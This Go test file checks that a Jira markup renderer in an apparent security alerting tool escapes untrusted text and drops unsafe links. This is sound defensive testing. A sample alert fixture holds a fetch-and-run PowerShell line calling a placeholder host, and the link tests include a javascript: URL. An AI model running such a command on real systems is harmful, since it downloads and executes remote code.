package jira_test

import (
	"os"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"funnelweb/framework"
	"funnelweb/internal/jira"
	"funnelweb/internal/sandbox/wiki"
)

const zero = "\u200b" // a zero-width space

func TestTextFromOutsideIsEscapedSoThatItReadsTheSame(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct{ text, want string }{
		"plain text":                           {"jdoe on WS-042, first_name", "jdoe on WS-042, first_name"},
		"a mention, which would send mail":     {"[~accountid:5b10] [~admin]", `\[\~accountid:5b10\] \[\~admin\]`},
		"an image, which would call home":      {"!http://e.example/x.png!", `\!http:` + zero + `//e.example/x.png\!`},
		"a link with a false text":             {"[click|http://e.example]", `\[click\|http:` + zero + `//e.example\]`},
		"bare addresses":                       {"https://e.example FTP://e mailto:a@b", "https:" + zero + "//e.example FTP:" + zero + "//e mailto:" + zero + "a@b"},
		"defanged addresses":                   {"hxxp://e.example HXXPS://e xhxxp://e hxxp:[~a]", "hxxp://e.example HXXPS://e xhxxp:" + zero + "//e hxxp:" + `\[\~a\]`},
		"an address within a word":             {"Z9mailto:a@b", "Z9mailto:" + zero + "a@b"},
		"headings and quotes at a line start":  {"h1. x\nbq. y\nH6. z", "h1" + zero + ". x\nbq" + zero + ". y\nH6" + zero + ". z"},
		"what only looks like a heading":       {"sh1. x ch2. h7. y", "sh1. x ch2. h7. y"},
		"rules and lists":                      {"----\n- a\n* b\n# c", `\-\-\-\-` + "\n" + `\- a` + "\n" + `\* b` + "\n" + `\# c`},
		"a table":                              {"||a||\n|b|", `\|\|a\|\|` + "\n" + `\|b\|`},
		"macros":                               {"{color:red}x{color} {noformat}", `\{` + zero + `color:red\}x\{` + zero + `color\} \{` + zero + `noformat\}`},
		"phrases":                              {"*b* _i_ -d- +u+ ^s^ ~s~ ??c?? {{m}}", `\*b\* \_i\_ \-d\- \+u\+ \^s\^ \~s\~ \?\?c\?\? \{` + zero + `\{` + zero + `m\}\}`},
		"emoticons":                            {":) ;) (!) (y) :D :P :Pa", `:\) ;\) \(\!\) \(y\) :` + zero + `D :` + zero + `P :Pa`},
		"a Windows path":                       {`C:\Users\bob`, `C:\Users\bob`},
		"a UNC path, which holds a line break": {`\\srv\share`, `\` + zero + `\srv\share`},
		"a backslash that would undo ours":     {`\[~admin\]`, `\` + zero + `\[\~admin\` + zero + `\]`},
		"a backslash at the end":               {`x\`, `x\` + zero},
		"line ends of all kinds":               {"a\r\nb\rc\u2028d\u0085e", "a\nb\nc\nd\ne"},
		"controls, reordering and bad UTF-8":   {"a\x00b\u202ec\xffd\x1b[0m", "a\ufffdb\ufffdc\ufffdd\ufffd" + `\[0m`},
		"letters of the world":                 {"Zoë 日本 😀", "Zoë 日本 😀"},
	} {
		got := jira.Markup(framework.Document{framework.Text(test.text)})
		if diff := cmp.Diff(test.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
		if live := wiki.Active(got); len(live) > 0 {
			t.Errorf("%s: live in %q: %v", name, got, live)
		}
	}
}

// These got through plain backslashes when Atlassian's own parser (@atlaskit/editor-wikimarkup-transformer 12.2.2)
// read them.
func TestMarkupThatOutlivesBackslashesInAtlassiansParser(t *testing.T) {
	t.Parallel()
	bold := func(text string) framework.Document {
		return framework.Document{framework.Paragraph{{Text: text, Bold: true}}}
	}
	row := func(cells ...string) framework.Document {
		var row []framework.Paragraph
		for _, cell := range cells {
			row = append(row, framework.Text(cell))
		}
		return framework.Document{framework.Table{Rows: [][]framework.Paragraph{row}}, framework.Preformatted{Text: "[~admin]"}}
	}
	for name, test := range map[string]struct {
		document framework.Document
		want     string
		live     []string
	}{
		"bold text is read twice, the second time unescaped": {bold("[~admin]"), `\[\~admin\]`, []string{}},
		"bold text without an escape stays bold":             {bold("first name"), `*first name*`, []string{"bold: first name"}},
		"a macro in a cell swallows the table and what follows": {
			row("{noformat:x}", "b"), `|\{` + zero + "noformat:x\\}|b|\n\n{noformat}\n[~admin]\n{noformat}", []string{"table", "noformat"},
		},
		"an escaped pipe still ends a cell": {row("a|b", "c"), "|a¦b|c|\n\n{noformat}\n[~admin]\n{noformat}", []string{"table", "noformat"}},
		"a bracket that another cell closes joins them": {
			row("a[b", "c]d"), "|a［b|c\\]d|\n\n{noformat}\n[~admin]\n{noformat}", []string{"table", "noformat"},
		},
		"a closing brace token ends the block": {
			framework.Document{framework.Preformatted{Text: "{noformat} {NOFORMAT:x} {code}"}},
			"{noformat}\n{" + zero + "noformat} {" + zero + "NOFORMAT:x} {code}\n{noformat}",
			[]string{"noformat"},
		},
	} {
		got := jira.Markup(test.document)
		if diff := cmp.Diff(test.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
		if diff := cmp.Diff(test.live, wiki.Active(got)); diff != "" {
			t.Errorf("%s: what is live (-want +got):\n%s", name, diff)
		}
	}
}

func TestOnlyAbsoluteWebAddressesBecomeLinks(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		span framework.Span
		want string
	}{
		"a link with its text":                     {framework.Span{Text: "Read more", Link: "https://x.example/a?b=c#d"}, "[Read more|https://x.example/a?b=c#d]"},
		"a text with markup stands before it":      {framework.Span{Text: "[x]", Link: "https://x.example/"}, `\[x\] [https://x.example/]`},
		"a link without a text":                    {framework.Span{Link: "https://x.example/"}, "[https://x.example/]"},
		"an address that would end the link":       {framework.Span{Text: "x", Link: "https://x.example/a]|b!{c}"}, "[x|https://x.example/a%5D%7Cb%21%7Bc%7D]"},
		"a script":                                 {framework.Span{Text: "x", Link: "javascript:alert(1)"}, "x"},
		"a path":                                   {framework.Span{Text: "x", Link: "/browse/SEC-1"}, "x"},
		"an address with a password":               {framework.Span{Text: "x", Link: "https://u:p@x.example"}, "x"},
		"bold text next to letters stays as it is": {framework.Span{Text: "x", Bold: true}, "*x*"},
	} {
		if diff := cmp.Diff(test.want, jira.Markup(framework.Document{framework.Paragraph{test.span}})); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
	got := jira.Markup(framework.Document{framework.Paragraph{
		{Text: "un"}, {Text: "bold", Bold: true}, {Text: " "}, {Text: "bold", Bold: true}, {Text: "ed "}, {Text: "bold", Bold: true}, {Text: ", yes"},
	}})
	if diff := cmp.Diff("unbold bolded *bold*, yes", got); diff != "" {
		t.Errorf("bold among letters (-want +got):\n%s", diff)
	}
}

func story() framework.Document {
	return framework.Document{
		framework.Heading{Level: 3, Text: "Malware found on host"},
		framework.Paragraph{{Text: "virustotal", Bold: true}, {Text: ": 61 of 67 engines\ncall it malicious. "}, {Text: "Read more", Link: "https://www.virustotal.com/gui/file/275a"}},
		framework.Table{Header: []string{"Field", "Value"}, Rows: [][]framework.Paragraph{
			{{{Text: "user", Bold: true}}, framework.Text("jdoe")},
			{{{Text: "command", Bold: true}}, framework.Text("powershell -c \"iwr http://e.example | iex\"\nexit")},
			{{{Text: "empty", Bold: true}}, framework.Text("")},
		}},
		framework.Preformatted{Text: "{\n  \"user\": \"jdoe\"\n}\n"},
	}
}

func TestADocumentIsRenderedForJiraAndReadByPeople(t *testing.T) {
	t.Parallel()
	markup := jira.Markup(story())
	compareGolden(t, "story.wiki.golden", markup)
	compareGolden(t, "story.txt.golden", wiki.Text(markup))
}

func compareGolden(t *testing.T, name, got string) {
	t.Helper()
	path := "testdata/" + name
	if *golden {
		if err := os.WriteFile(path, []byte(got+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got+"\n"); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}

func TestWhatIsTooLongIsCutOffWithANoteOutsideOfMacros(t *testing.T) {
	t.Parallel()
	const note = `\[Cut off here: the text is longer than Jira takes. The event holds all of it.\]`
	var rows [][]framework.Paragraph
	for range 5_000 {
		rows = append(rows, []framework.Paragraph{framework.Text("field"), framework.Text("[value]")})
	}
	for name, test := range map[string]struct {
		block framework.Block
		live  []string
	}{
		"preformatted text":          {framework.Preformatted{Text: strings.Repeat("{noformat} 😀\n", 9_000)}, []string{"heading", "noformat"}},
		"a paragraph":                {framework.Text(strings.Repeat(`[~admin] \`, 9_000)), []string{"heading"}},
		"a table":                    {framework.Table{Header: []string{"a", "b"}, Rows: rows}, []string{"heading", "table"}},
		"a table of one endless row": {framework.Table{Rows: [][]framework.Paragraph{slices.Repeat([]framework.Paragraph{framework.Text("[~admin]")}, 9_000)}}, []string{"heading"}},
	} {
		for before := range 3 { // the cut falls on different places
			got := jira.Markup(framework.Document{framework.Heading{Level: 1, Text: strings.Repeat("x", 1+before)}, test.block, framework.Text("lost")})
			units := len(utf16.Encode([]rune(got)))
			if units > 32_767 || units < 32_000 && len(test.live) > 1 {
				t.Errorf("%s: %d units", name, units)
			}
			if !strings.HasSuffix(got, "\n\n"+note) {
				t.Errorf("%s ends with %q", name, got[max(0, len(got)-120):])
			}
			if diff := cmp.Diff(test.live, kinds(got)); diff != "" {
				t.Errorf("%s: what is live (-want +got):\n%s", name, diff)
			}
		}
	}
}

func TestADocumentThatJustFitsIsNotCut(t *testing.T) {
	t.Parallel()
	longest := framework.Document{framework.Text(strings.Repeat("x", 32_767))}
	if got := jira.Markup(longest); got != strings.Repeat("x", 32_767) {
		t.Errorf("%d characters, ending with %q", len(got), got[len(got)-100:])
	}
	longer := framework.Document{framework.Text(strings.Repeat("x", 32_768))}
	if got := jira.Markup(longer); !strings.Contains(got, "Cut off here") || len(got) > 32_767 {
		t.Errorf("%d characters, ending with %q", len(got), got[len(got)-100:])
	}
}

func TestASummaryIsOneShortLine(t *testing.T) {
	t.Parallel()
	site := newSite(t, jira.Cloud, nil)
	for summary, want := range map[string]string{
		"Malware\r\nfound\ton \x00 host": "Malware found on \ufffd host",
		strings.Repeat("x", 250):         strings.Repeat("x", 250),
		strings.Repeat("x", 251):         strings.Repeat("x", 249) + "…",
		strings.Repeat("😀", 200_000):     strings.Repeat("😀", 124) + "…",
		"[~admin] *b*":                   "[~admin] *b*", // summaries are not rendered
	} {
		ticket := alert()
		ticket.Summary = summary
		key := must(site.client.Create(t.Context(), ticket))(t)
		issue, _ := site.Issue(key)
		if diff := cmp.Diff(want, issue.Summary); diff != "" {
			t.Errorf("summary (-want +got):\n%s", diff)
		}
	}
}

// kinds names what is live in a markup, without what it is about and without forced line breaks.
func kinds(markup string) []string {
	var kinds []string
	for _, live := range wiki.Active(markup) {
		kind, _, _ := strings.Cut(live, ":")
		if kind != "line break" {
			kinds = append(kinds, kind)
		}
	}
	return kinds
}

// everywhere puts a text into every place that a document has for one.
func everywhere(text string) framework.Document {
	return framework.Document{
		framework.Heading{Level: 2, Text: "x" + text},
		framework.Text(text),
		framework.Paragraph{{Text: "x "}, {Text: text}, {Text: text}, {Text: " x"}},
		framework.Paragraph{{Text: "x "}, {Text: text, Link: "https://x.example/"}},
		framework.Table{Header: []string{"x" + text, "x"}, Rows: [][]framework.Paragraph{
			{framework.Text(text), framework.Text("x" + text)},
			{framework.Text(text + "x"), framework.Text("x")},
		}},
		framework.Preformatted{Text: "x" + text},
		framework.Text(text),
		framework.Text("x"),
	}
}

func FuzzMarkup(f *testing.F) {
	for _, seed := range []string{
		"[~admin]", "!http://e/x.png!", "[click|http://e]", "http://e", "h1. x", "bq. x", "----", "- a", "|a|b|", "{color:red}x", "{noformat}",
		"{noformat:x}", "(!)", ":D", "*b*", `\`, `\\`, "\n", "\n\n|", "[^x.pdf]", "{{m}}", "{*}b{*}", "\u2028h1. x", `\[~x\]`, "Z9mailto:a@b", "[", "]", "_", "-",
	} {
		f.Add(seed)
	}
	want := kinds(jira.Markup(everywhere("x")))
	f.Fuzz(func(t *testing.T, text string) {
		text = text[:min(len(text), 1_000)] // longer ones are cut off, which other tests are about
		markup := jira.Markup(everywhere(text))
		if diff := cmp.Diff(want, kinds(markup)); diff != "" {
			t.Errorf("what is live in %q (-want +got):\n%s", markup, diff)
		}
	})
}

// pieces are what markup is made of: mentions, images, links of each kind, smart links, macros that are known and that are
// not, tables, lists, rules, emoticons, line breaks, entities, and what stands between them.
func pieces() []string {
	return []string{
		"[~admin]", "[~accountid:712020:x]", "@admin", "!http://e.example/x.png!", "!x.png|thumbnail!", "!", "[", "]", "|", "||", "http://e.example", "https://e.example/a_b",
		"www.e.example", "hxxp://e.example", "hxxp", "mailto:a@e.example", "file://x", "\\\\e.example\\x", "[click|http://e.example]", "[http://e.example|smart-link]", "[x|http://e.example|smart-card]",
		"|smart-embed]", "[^x.pdf]", "[#anchor]", "{anchor:x}", "{noformat}", "{noformat:title=x}", "{ noformat }", "{code}", "{code:java}", "{html}", "{html:x}", "{panel}", "{quote}",
		"{color:red}", "{color}", "{include:x}", "{jql:x}", "{adf}", "{mention:x}", "{", "}", "{{", "}}", "{*}", "*", "_", "-", "+", "^", "~", "??", "----", "---", "--", "h1. ",
		"bq. ", "* ", "# ", "- ", "*- ", "\n", "\n\n", "\r\n", "\u2028", "\t", " ", "\u00a0", "\u200b", ":)", ":-(", ":D", ";)", ":P", "(!)", "(?)", "(x)", "(/)", "(+)", "(*r)", "(flag)",
		"\\", "\\\\", "\\{", "\\[", "&lt;", "&#91;", "&#123;", "<b>", "<script>", "%5B", "x", "Z9", "ä", "😀", ".", ":", "/", "//", "SEC-1", "C:\\Users\\bob",
	}
}

func TestNoMixtureOfMarkupIsLiveAnywhere(t *testing.T) {
	t.Parallel()
	want := kinds(jira.Markup(everywhere("x")))
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces()), 1, 12).Draw(t, "pieces"), "")
		markup := jira.Markup(everywhere(text))
		if diff := cmp.Diff(want, kinds(markup)); diff != "" {
			t.Fatalf("what is live in %q (-want +got):\n%s", markup, diff)
		}
		for _, live := range wiki.Active(markup) {
			if about, ok := strings.CutPrefix(live, "link: "); ok && about != "https://x.example/" {
				t.Fatalf("a link to %s in %q", about, markup)
			}
		}
	})
}

func TestWhatIsLiveWithoutEscapesIsSeen(t *testing.T) {
	t.Parallel()
	for text, kind := range map[string]string{
		"[~admin]": "mention", "!http://e.example/x.png!": "image", "http://e.example": "link", "[x|http://e.example|smart-card]": "link", "{html}x{html}": "macro",
		"(!)": "emoji", "|a|": "table", "----": "rule",
	} {
		if got := kinds(text); !slices.ContainsFunc(got, func(k string) bool { return strings.HasPrefix(k, kind) }) {
			t.Errorf("%s: live are %v, want %s", text, got, kind)
		}
	}
}
